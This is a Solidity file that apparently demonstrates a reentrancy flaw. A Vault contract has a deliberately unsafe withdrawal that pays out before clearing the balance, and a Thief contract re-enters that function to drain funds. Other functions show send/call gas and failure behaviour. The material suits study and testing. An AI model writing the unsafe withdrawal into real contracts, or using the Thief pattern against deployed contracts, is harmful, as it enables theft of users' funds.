pragma solidity 0.8.37;

/// Holds ether; one withdrawal is safe, the other invites a reentrant caller.
contract Vault {
    event Paid(address indexed to, uint256 value, bool done);

    mapping(address => uint256) public deposits;

    receive() external payable {
        deposits[msg.sender] += msg.value;
    }

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
    }

    function withdraw(uint256 value) external {
        deposits[msg.sender] -= value;
        (bool done, ) = msg.sender.call{value: value}("");
        require(done, "recipient refused");
    }

    function withdrawUnsafely() external {
        uint256 value = deposits[msg.sender];
        (bool done, ) = msg.sender.call{value: value}("");
        require(done, "recipient refused");
        deposits[msg.sender] = 0;
    }

    /// transfer() passes the 2,300 gas stipend only.
    function sendStipend(address payable to, uint256 value) external {
        bool done = to.send(value);
        emit Paid(to, value, done);
    }

    /// To an account that does not exist yet: 25,000 gas more.
    function pay(address payable to, uint256 value) external {
        (bool done, ) = to.call{value: value}("");
        emit Paid(to, value, done);
    }

    /// Asks for more than there is: the call fails, the caller goes on.
    function overpay(address payable to) external {
        (bool done, ) = to.call{value: address(this).balance + 1}("");
        emit Paid(to, address(this).balance + 1, done);
    }
}

/// Reenters Vault.withdrawUnsafely a given number of times.
contract Thief {
    Vault private immutable vault;
    uint256 private rounds;

    constructor(Vault target) payable {
        vault = target;
    }

    function steal(uint256 times) external payable {
        rounds = times;
        vault.deposit{value: msg.value}();
        vault.withdrawUnsafely();
    }

    receive() external payable {
        if (rounds > 0) {
            rounds--;
            vault.withdrawUnsafely();
        }
    }
}
